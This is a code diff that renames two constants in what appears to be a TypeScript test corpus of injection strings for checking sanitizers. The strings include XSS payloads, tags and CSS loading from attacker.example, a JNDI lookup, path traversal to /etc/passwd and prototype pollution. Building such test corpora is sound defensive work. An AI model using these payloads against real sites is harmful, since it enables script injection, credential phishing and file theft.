@@ -1,9 +1,9 @@
 /** The global variable that a string sets when it runs as code in a page. */
-export const TRIPWIRE = '__pwned';
+export const EXECUTED_FLAG = '__pwned';
 /** The URL that the strings try to load. */
-const ELSEWHERE = 'https://attacker.example/x';
+const ATTACKER_URL = 'https://attacker.example/x';
 
-const RUN = `window.${TRIPWIRE}=1`;
+const RUN = `window.${EXECUTED_FLAG}=1`;
 const EVENTS =
   'onerror onload onclick onfocus onmouseover onpointerenter onanimationstart ontoggle onbegin onwheel onpaste onresize'.split(
     ' ',
@@ -44,14 +44,14 @@ const FAMILIES: Record<string, readonly string[]> = {
     `</textarea><script>${RUN}</script>`,
     `</style><script>${RUN}</script>`,
     `--><script>${RUN}</script><!--`,
-    `<script src=${ELSEWHERE}></script>`,
+    `<script src=${ATTACKER_URL}></script>`,
     `<scr<script>ipt>${RUN}</scr</script>ipt>`,
     `&lt;script&gt;${RUN}&lt;/script&gt;`,
     `&#60;script&#62;${RUN}&#60;/script&#62;`,
-    `<base href=${ELSEWHERE}/>`,
-    `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
-    `<link rel=stylesheet href=${ELSEWHERE}>`,
-    `<form action=${ELSEWHERE}><button>Sign in</button></form>`,
+    `<base href=${ATTACKER_URL}/>`,
+    `<meta http-equiv=refresh content="0;url=${ATTACKER_URL}">`,
+    `<link rel=stylesheet href=${ATTACKER_URL}>`,
+    `<form action=${ATTACKER_URL}><button>Sign in</button></form>`,
     `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
     `<template><script>${RUN}</script></template>`,
     ...each(TAGS, EVENTS, (tag, event) => `<${tag} src=x ${event}=${RUN}>`),
@@ -60,7 +60,7 @@ const FAMILIES: Record<string, readonly string[]> = {
     ...EVENTS.map((event) => `<svg><animate ${event}=${RUN} attributeName=x dur=1s>`),
     `<svg><script>${RUN}</script></svg>`,
     `<svg><use href="data:image/svg+xml,<svg id='x'/>#x">`,
-    `<svg><foreignObject><iframe srcdoc="<script>parent.${TRIPWIRE}=1</script>">`,
+    `<svg><foreignObject><iframe srcdoc="<script>parent.${EXECUTED_FLAG}=1</script>">`,
     `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
   ],
   attribute: each(
@@ -79,7 +79,7 @@ const FAMILIES: Record<string, readonly string[]> = {
     `data:text/html,<script>${RUN}</script>`,
     `//attacker.example/x`,
     `\\\\attacker.example\\x`,
-    ELSEWHERE,
+    ATTACKER_URL,
     `http://attacker.example@carrier.example/`,
     '../../../../etc/passwd',
     '..%2f..%2f..%2fetc%2fpasswd',
@@ -92,7 +92,7 @@ const FAMILIES: Record<string, readonly string[]> = {
     `#{${RUN}}`,
     `<%= ${RUN} %>`,
     `{%raw%}${RUN}{%endraw%}`,
-    `{"__proto__":{"${TRIPWIRE}":1}}`,
+    `{"__proto__":{"${EXECUTED_FLAG}":1}}`,
     `$&$1$\`$'$$`,
     `\${jndi:ldap://attacker.example/x}`,
     `\`;${RUN}//`,
@@ -105,12 +105,12 @@ const FAMILIES: Record<string, readonly string[]> = {
   ],
   css: [
     `</style><style>*{display:none}`,
-    `;background:url(${ELSEWHERE})`,
-    `}*{background:url(${ELSEWHERE})}`,
-    `@import '${ELSEWHERE}';`,
+    `;background:url(${ATTACKER_URL})`,
+    `}*{background:url(${ATTACKER_URL})}`,
+    `@import '${ATTACKER_URL}';`,
     `expression(${RUN})`,
     `x;position:fixed;inset:0;z-index:9999`,
-    `<div style="position:fixed;inset:0;background:url(${ELSEWHERE})">`,
+    `<div style="position:fixed;inset:0;background:url(${ATTACKER_URL})">`,
     `\\3c script\\3e`,
   ],
   sql: [
